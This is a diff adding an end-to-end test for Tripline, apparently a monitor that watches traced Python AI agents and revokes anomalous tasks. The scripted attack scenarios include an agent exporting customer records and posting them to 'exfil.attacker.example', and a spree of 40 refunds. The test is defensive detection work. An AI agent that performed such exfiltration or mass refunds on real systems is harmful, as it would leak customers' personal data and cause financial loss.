@@ -1,0 +1,295 @@
+/**
+ * Real Python agents, instrumented the way their users instrument them, against Tripline started as `npm start`
+ * does. The agents and their instrumentation come from PyPI (test/agents/python/<framework>/requirements.txt, venvs
+ * made by test/agents/python/venv.sh):
+ *
+ * - pydantic_ai: pydantic-ai's own GenAI instrumentation (`invoke_agent` / `chat` / `execute_tool` spans);
+ * - langgraph: a LangGraph StateGraph with a ToolNode, traced by openinference-instrumentation-langchain.
+ *
+ * Both use a scripted model (no network, no weights), real Python tools (two read SQLite, traced by
+ * opentelemetry-instrumentation-sqlite3), the official OTel SDK and OTLP/HTTP protobuf. No Tripline attribute is set
+ * on a framework's span. Each framework runs in two modes:
+ *
+ * - wrapper: the run is wrapped in a span of the script's own tracer with `tripline.task.id` / `tripline.task.type`
+ *   (the task is found by that id);
+ * - trace: no task id at all, the task type on the resource; the trace is the task (found by its trace id).
+ *
+ * For each, with a task type of its own: 30 benign warm-up tasks, then a mixed phase of benign tasks, a novel-tool
+ * exfiltration (export the customers, then `http_post` to a host the type never saw, a tool it never used) and a
+ * tool-call spree (40 refunds). Expected: the type reaches its baseline, both attacks are revoked, every benign task
+ * completes and none is revoked.
+ */
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { TEST_AGENT_TOKEN, TEST_AUTH_ENV, adminHeaders } from '../helpers/auth.ts';
+import { pythonFor, runPythonAgent } from '../helpers/python.ts';
+import { startTriplineProcess } from '../helpers/tripline-process.ts';
+import type { TriplineProcess } from '../helpers/tripline-process.ts';
+import { waitFor } from '../helpers/wait.ts';
+
+const FRAMEWORKS = ['pydantic_ai', 'langgraph'] as const;
+const MODES = ['wrapper', 'trace'] as const;
+type Framework = (typeof FRAMEWORKS)[number];
+type Mode = (typeof MODES)[number];
+type Label = 'benign' | 'exfiltration' | 'spree';
+
+const WARMUP_TASKS = 20;
+const WARMUP_RUN = 30;
+const MIXED_BENIGN = 8;
+const EXFIL_URL = 'https://exfil.attacker.example/upload';
+/** How long Tripline may take to reach a verdict once the agent has flushed its spans. */
+const VERDICT_MS = 45_000;
+
+interface Call {
+  tool: 'get_order' | 'export_customers' | 'issue_refund' | 'http_post';
+  args: Record<string, string | number>;
+}
+
+interface PlannedTask {
+  label: Label;
+  taskType: string;
+  taskId: string | null;
+  calls: Call[];
+}
+
+/** One line of an agent's stdout: the task it ran and the trace it ran in. */
+interface RanTask {
+  label: Label;
+  taskId: string | null;
+  traceId: string;
+}
+
+interface TaskView {
+  taskId: string;
+  taskType: string;
+  agentId: string | null;
+  status: 'active' | 'completed' | 'revoked';
+  score: number;
+  decision: string;
+  regime: string;
+  reasons: unknown[];
+  counts: Record<string, number>;
+  detector: { regime: string; baselineTasks: number; warmupTasks: number };
+}
+
+interface BaselineView {
+  taskType: string;
+  tasks: number;
+  regime: string;
+}
+
+/** A small deterministic generator (mulberry32), so every run plans the same tasks. */
+function random(seed: number): () => number {
+  let state = seed >>> 0;
+  return () => {
+    state = (state + 0x6d2b79f5) >>> 0;
+    let t = state;
+    t = Math.imul(t ^ (t >>> 15), t | 1);
+    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
+    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
+  };
+}
+
+function order(next: () => number): string {
+  return `ord-${String(1 + Math.floor(next() * 200))}`;
+}
+
+/** A support task: 2–5 calls, look orders up and refund small amounts, now and then a look at a few customers. */
+function benignCalls(next: () => number): Call[] {
+  const calls: Call[] = [];
+  if (next() < 0.15) calls.push({ tool: 'export_customers', args: { limit: 2 + Math.floor(next() * 4) } });
+  const pairs = next() < 0.6 ? 1 : 2;
+  for (let i = 0; i < pairs && calls.length < 5; i++) {
+    const id = order(next);
+    calls.push({ tool: 'get_order', args: { order_id: id } });
+    if (next() < 0.25 && calls.length < 4) calls.push({ tool: 'get_order', args: { order_id: order(next) } });
+    if (calls.length < 5) calls.push({ tool: 'issue_refund', args: { order_id: id, amount: Math.round((5 + next() * 35) * 100) / 100 } });
+  }
+  return calls;
+}
+
+function exfiltrationCalls(): Call[] {
+  return [
+    { tool: 'get_order', args: { order_id: 'ord-17' } },
+    { tool: 'export_customers', args: { limit: 50 } },
+    { tool: 'http_post', args: { url: EXFIL_URL, body: 'id,name,email,card_last4\n1,Customer 1,customer1@shop.example,1007\n...' } },
+  ];
+}
+
+function spreeCalls(): Call[] {
+  const calls: Call[] = [{ tool: 'get_order', args: { order_id: 'ord-42' } }];
+  for (let i = 0; i < 40; i++) calls.push({ tool: 'issue_refund', args: { order_id: `ord-${String(100 + i)}`, amount: 39.99 } });
+  return calls;
+}
+
+/** The body of a GET with the admin token, or undefined when it is not found. */
+async function getJson(url: string): Promise<unknown> {
+  const response = await fetch(url, { headers: adminHeaders });
+  const text = await response.text();
+  if (response.status === 404) return undefined;
+  if (!response.ok) throw new Error(`GET ${url}: ${String(response.status)} ${text}`);
+  return JSON.parse(text) as unknown;
+}
+
+describe('real Python agents (pydantic-ai, LangGraph + OpenInference) against Tripline', () => {
+  const dataDir = mkdtempSync(join(tmpdir(), 'tripline-e2e-python-'));
+  const workDir = mkdtempSync(join(tmpdir(), 'tripline-e2e-python-plans-'));
+  const runId = Date.now().toString(36);
+  let tripline: TriplineProcess;
+
+  beforeAll(async () => {
+    // The first run installs each framework from PyPI (a minute or so each); later runs reuse the cached venvs.
+    await Promise.all(FRAMEWORKS.map((framework) => pythonFor(framework)));
+    tripline = await startTriplineProcess({
+      ...TEST_AUTH_ENV,
+      TRIPLINE_DATA_DIR: dataDir,
+      TRIPLINE_WARMUP_TASKS: String(WARMUP_TASKS),
+      LOG_LEVEL: 'warn',
+    });
+  }, 20 * 60_000);
+
+  afterAll(async () => {
+    await tripline.stop();
+    rmSync(dataDir, { recursive: true, force: true });
+    rmSync(workDir, { recursive: true, force: true });
+  });
+
+  async function task(id: string): Promise<TaskView | undefined> {
+    return (await getJson(`${tripline.apiUrl}/v1/tasks/${encodeURIComponent(id)}`)) as TaskView | undefined;
+  }
+
+  async function baseline(taskType: string): Promise<BaselineView | undefined> {
+    return (await getJson(`${tripline.apiUrl}/v1/baselines/${encodeURIComponent(taskType)}`)) as BaselineView | undefined;
+  }
+
+  /** Runs one agent process over `plan`; returns what it ran, in order. */
+  async function runAgent(framework: Framework, mode: Mode, taskType: string, name: string, plan: PlannedTask[]): Promise<RanTask[]> {
+    const planFile = join(workDir, `${taskType}-${name}.json`);
+    writeFileSync(planFile, JSON.stringify(plan));
+    const env: Record<string, string> = mode === 'trace' ? { OTEL_RESOURCE_ATTRIBUTES: `tripline.task.type=${taskType}` } : {};
+    const { stdout } = await runPythonAgent(framework, 'agent.py', ['--endpoint', tripline.otlpUrl, '--token', TEST_AGENT_TOKEN, '--plan', planFile, '--mode', mode], env, 300_000);
+    const ran = stdout
+      .split('\n')
+      .filter((line) => line.startsWith('{'))
+      .map((line) => JSON.parse(line) as RanTask);
+    expect(ran.map((entry) => entry.label)).toEqual(plan.map((entry) => entry.label));
+    for (const [index, entry] of ran.entries()) {
+      expect(entry.traceId).toMatch(/^[0-9a-f]{32}$/);
+      expect(entry.taskId).toBe(mode === 'wrapper' ? plan[index]?.taskId : null);
+    }
+    return ran;
+  }
+
+  for (const framework of FRAMEWORKS) {
+    for (const mode of MODES) {
+      describe(`${framework}, ${mode} mode`, () => {
+        const taskType = `refund_${framework}_${mode}`;
+        const next = random(FRAMEWORKS.indexOf(framework) * 100 + MODES.indexOf(mode) + 1);
+        let counter = 0;
+        const planned = (label: Label, calls: Call[]): PlannedTask => ({
+          label,
+          taskType,
+          taskId: mode === 'wrapper' ? `${taskType}-${label}-${String(++counter)}-${runId}` : null,
+          calls,
+        });
+        /** The id Tripline knows a task by: the declared one, or the trace's. */
+        const idOf = (entry: RanTask): string => entry.taskId ?? entry.traceId;
+        let warmup: RanTask[] = [];
+        let mixed: RanTask[] = [];
+        const mixedOf = (label: Label): RanTask[] => mixed.filter((entry) => entry.label === label);
+
+        it(`runs ${String(WARMUP_RUN)} benign warm-up tasks and the type reaches its baseline`, async () => {
+          const plan = Array.from({ length: WARMUP_RUN }, () => planned('benign', benignCalls(next)));
+          warmup = await runAgent(framework, mode, taskType, 'warmup', plan);
+          let last: BaselineView | undefined;
+          try {
+            await waitFor(
+              `the baseline of ${taskType} to be learned from ${String(WARMUP_TASKS)} tasks`,
+              async () => {
+                last = await baseline(taskType);
+                return last !== undefined && last.tasks >= WARMUP_TASKS;
+              },
+              VERDICT_MS,
+              250,
+            );
+          } catch (error) {
+            const first = warmup[0];
+            const sample = first === undefined ? undefined : await task(idOf(first));
+            throw new Error(`${(error as Error).message}; baseline: ${last === undefined ? 'none (404)' : `${String(last.tasks)} tasks, ${last.regime}`}; first warm-up task: ${sample === undefined ? 'unknown to Tripline (404)' : JSON.stringify(sample)}`, { cause: error });
+          }
+          expect(last?.regime).toBe('type_baseline');
+        }, 10 * 60_000);
+
+        it('runs a mixed phase: benign tasks, a novel-tool exfiltration and a tool-call spree', async () => {
+          const plan = Array.from({ length: MIXED_BENIGN }, () => planned('benign', benignCalls(next)));
+          plan.splice(3, 0, planned('exfiltration', exfiltrationCalls()));
+          plan.splice(6, 0, planned('spree', spreeCalls()));
+          mixed = await runAgent(framework, mode, taskType, 'mixed', plan);
+          expect(mixed).toHaveLength(MIXED_BENIGN + 2);
+        }, 10 * 60_000);
+
+        it('scores the mixed phase under the type baseline', async () => {
+          const first = mixed[0];
+          expect(first, 'the mixed phase ran').toBeDefined();
+          if (first === undefined) return;
+          const view = await waitFor(`task ${idOf(first)} to be known`, () => task(idOf(first)), VERDICT_MS, 250);
+          expect(view.detector.regime, JSON.stringify(view)).toBe('type_baseline');
+        }, 2 * 60_000);
+
+        for (const label of ['exfiltration', 'spree'] as const) {
+          it(`revokes the ${label === 'exfiltration' ? 'novel-tool exfiltration' : 'tool-call spree'}`, async () => {
+            const [attack] = mixedOf(label);
+            expect(attack, 'the mixed phase ran').toBeDefined();
+            if (attack === undefined) return;
+            let last: TaskView | undefined;
+            try {
+              await waitFor(
+                `task ${idOf(attack)} (${label}) to be revoked`,
+                async () => {
+                  last = await task(idOf(attack));
+                  return last?.status === 'revoked';
+                },
+                VERDICT_MS,
+                250,
+              );
+            } catch (error) {
+              throw new Error(`${(error as Error).message}; last seen: ${last === undefined ? 'unknown to Tripline (404)' : JSON.stringify(last)}`, { cause: error });
+            }
+          }, 2 * 60_000);
+        }
+
+        it('completes every benign task and revokes none', async () => {
+          const benign = [...warmup, ...mixedOf('benign')];
+          expect(benign.length, 'the warm-up and the mixed phase ran').toBe(WARMUP_RUN + MIXED_BENIGN);
+          const views = new Map<string, TaskView | undefined>();
+          try {
+            await waitFor(
+              `all ${String(benign.length)} benign tasks of ${taskType} to complete`,
+              async () => {
+                for (const entry of benign) {
+                  const id = idOf(entry);
+                  if (views.get(id)?.status === 'completed' || views.get(id)?.status === 'revoked') continue;
+                  views.set(id, await task(id));
+                }
+                return benign.every((entry) => {
+                  const status = views.get(idOf(entry))?.status;
+                  return status === 'completed' || status === 'revoked';
+                });
+              },
+              VERDICT_MS,
+              500,
+            );
+          } catch (error) {
+            const pending = benign.filter((entry) => views.get(idOf(entry))?.status !== 'completed').map((entry) => `${idOf(entry)}: ${JSON.stringify(views.get(idOf(entry)) ?? '404')}`);
+            throw new Error(`${(error as Error).message}; not completed (${String(pending.length)}): ${pending.slice(0, 3).join('; ')}`, { cause: error });
+          }
+          const revoked = benign.filter((entry) => views.get(idOf(entry))?.status === 'revoked');
+          expect(revoked.map((entry) => JSON.stringify(views.get(idOf(entry)))), 'benign tasks revoked').toEqual([]);
+          expect(benign.filter((entry) => views.get(idOf(entry))?.status !== 'completed').map(idOf), 'benign tasks not completed').toEqual([]);
+        }, 2 * 60_000);
+      });
+    }
+  }
+});
